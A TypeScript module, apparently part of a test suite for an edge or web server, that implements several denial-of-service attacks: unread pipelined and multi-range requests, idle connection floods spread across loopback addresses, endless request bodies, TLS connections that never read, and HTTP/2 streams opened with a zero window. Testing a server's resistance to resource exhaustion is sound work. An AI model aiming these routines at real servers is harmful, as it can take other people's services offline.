import { once } from 'node:events';
import { type ClientHttp2Session, connect as connectHttp2 } from 'node:http2';
import { connect, type Socket } from 'node:net';
import { setTimeout as wait } from 'node:timers/promises';
import { connect as connectSecurely } from 'node:tls';

/** Readers who request much and read nothing. Each attack lasts `seconds`, and returns what it achieved. */

export interface ServingPort {
  readonly host: string;
  readonly port: number;
}

export interface Asked {
  /** The value of the `Host` header. */
  readonly host: string;
  readonly path: string;
  /** The size of the requested file, in bytes. */
  readonly size: number;
}

export interface Attacked {
  readonly connections: number;
  readonly requests: number;
  /** Connections that the server has ended or refused. */
  readonly ended: number;
  /** Streams of HTTP/2 that the server has refused or reset. */
  readonly reset: number;
}

const DEFAULT_SECONDS = 15;
/** Spreads connections over this many loopback addresses. */
const addressOf = (i: number, addresses: number) =>
  addresses === 1 ? {} : { localAddress: `127.0.2.${1 + (i % addresses)}` };

/** Pipelines requests for ranges of a large file over HTTP/1.1, and reads none of the answers. */
export async function pipelinedRanges(
  edge: ServingPort,
  { host, path, size }: Asked,
  { connections = 14, requests = 1500, addresses = 1, seconds = DEFAULT_SECONDS } = {},
): Promise<Attacked> {
  const text = Array.from({ length: requests }, (_, i) => {
    const first = i % size;
    return `GET ${path} HTTP/1.1\r\nHost:${host}\r\nRange:bytes=${first}-\r\n\r\n`;
  }).join('');
  return unread(edge, text, { connections, requests: connections * requests, addresses, seconds });
}

/** Opens connections that each request a large file once. */
export function unreadFiles(
  edge: ServingPort,
  { host, path }: Asked,
  { connections = 1000, addresses = 1, seconds = DEFAULT_SECONDS } = {},
): Promise<Attacked> {
  const text = `GET ${path} HTTP/1.1\r\nHost: ${host}\r\n\r\n`;
  return unread(edge, text, { connections, requests: connections, addresses, seconds });
}

/** Does the same over TLS, where all bytes written at once are copied. */
export async function unreadSecurely(
  { host, port }: ServingPort,
  asked: Asked,
  { connections = 1000, addresses = 1, seconds = DEFAULT_SECONDS } = {},
): Promise<Attacked> {
  const opened: Socket[] = [];
  let ended = 0;
  for (let i = 0; i < connections; i++) {
    const names = { servername: asked.host, rejectUnauthorized: false };
    const socket = connectSecurely({ host, port, ...names, ...addressOf(i, addresses) });
    opened.push(socket);
    socket.on('error', () => {});
    socket.on('close', () => ended++);
    await Promise.race([once(socket, 'secureConnect'), once(socket, 'close')]).catch(() => {});
    if (!socket.destroyed) socket.write(`GET ${asked.path} HTTP/1.1\r\nHost: ${asked.host}\r\n\r\n`);
  }
  await wait(seconds * 1000);
  for (const socket of opened) socket.destroy();
  return { connections, requests: connections, ended, reset: 0 };
}

/** Opens connections that send nothing, from enough addresses to have more than one client may have. */
export function idleConnections(
  edge: ServingPort,
  { connections = 14_000, addresses = 20, seconds = DEFAULT_SECONDS } = {},
): Promise<Attacked> {
  return unread(edge, '', { connections, requests: 0, addresses, seconds });
}

/**
 * Requests many different prepared answers over connections that read none. No cache frees the bytes that wait to be
 * sent.
 */
export function unreadAnswers(
  edge: ServingPort,
  { host, path }: Asked,
  { connections = 1000, addresses = 1, requests = 200, seconds = DEFAULT_SECONDS } = {},
): Promise<Attacked> {
  const text = Array.from(
    { length: requests },
    (_, i) => `GET ${path} HTTP/1.1\r\nHost: ${host}\r\nAccept-Encoding: x${i}\r\n\r\n`,
  ).join('');
  return unread(edge, text, { connections, requests: connections * requests, addresses, seconds });
}

/** Pipelines requests for many small ranges of a large file, and reads none of the answers. */
export function manyRanges(
  edge: ServingPort,
  { host, path, size }: Asked,
  { connections = 50, requests = 200, addresses = 1, seconds = DEFAULT_SECONDS } = {},
): Promise<Attacked> {
  const ranges = Array.from({ length: 64 }, (_, i) => {
    const first = Math.floor((size / 64) * i);
    return `${first}-${first + 1}`;
  });
  const text = `GET ${path} HTTP/1.1\r\nHost: ${host}\r\nRange: bytes=${ranges}\r\n\r\n`.repeat(requests);
  return unread(edge, text, { connections, requests: connections * requests, addresses, seconds });
}

/** Sends requests with endless bodies that nobody wants. */
export function endlessBodies(
  edge: ServingPort,
  { host, path }: Asked,
  { connections = 200, addresses = 1, seconds = DEFAULT_SECONDS } = {},
): Promise<Attacked> {
  const head = `GET ${path} HTTP/1.1\r\nHost: ${host}\r\nContent-Length: 1000000000\r\n\r\n`;
  const text = head + 'x'.repeat(200_000);
  return unread(edge, text, { connections, requests: connections, addresses, seconds });
}

/** Opens HTTP/2 streams for a large file, on sessions that give the server no window. */
export async function closedWindows(
  edge: ServingPort,
  { host, path }: Asked,
  { sessions = 133, streams = 128, addresses = 1, seconds = DEFAULT_SECONDS } = {},
): Promise<Attacked> {
  const opened: ClientHttp2Session[] = [];
  let ended = 0;
  let reset = 0;
  for (let i = 0; i < sessions; i++) {
    const session = connectHttp2(`https://${edge.host}:${edge.port}`, {
      rejectUnauthorized: false,
      servername: host,
      settings: { initialWindowSize: 0 },
      ...addressOf(i, addresses),
    });
    session.on('error', () => {});
    session.on('close', () => ended++);
    opened.push(session);
    await Promise.race([once(session, 'remoteSettings'), once(session, 'close')]).catch(() => {});
    for (let k = 0; k < streams && !session.destroyed; k++) {
      const stream = session.request({ ':path': path, ':authority': host });
      stream.on('error', () => {});
      stream.on('close', () => reset++);
    }
  }
  await wait(seconds * 1000);
  const result = { connections: sessions, requests: sessions * streams, ended, reset };
  for (const session of opened) session.destroy();
  return result;
}

async function unread(
  { host, port }: ServingPort,
  text: string,
  {
    connections,
    requests,
    addresses,
    seconds,
  }: { connections: number; requests: number; addresses: number; seconds: number },
): Promise<Attacked> {
  const opened: Socket[] = [];
  let ended = 0;
  for (let i = 0; i < connections; i++) {
    const socket = connect({ host, port, ...addressOf(i, addresses) });
    opened.push(socket);
    socket.on('error', () => {});
    socket.on('close', () => ended++);
    // Without a listener for data, the socket reads nothing.
    await Promise.race([once(socket, 'connect'), once(socket, 'close')]).catch(() => {});
  }
  // All sockets write at once. While the server reads from one, the others fill the buffers of the system.
  for (const socket of opened) if (!socket.destroyed) socket.write(text);
  await wait(seconds * 1000);
  const result = { connections, requests, ended, reset: 0 };
  for (const socket of opened) socket.destroy();
  return result;
}
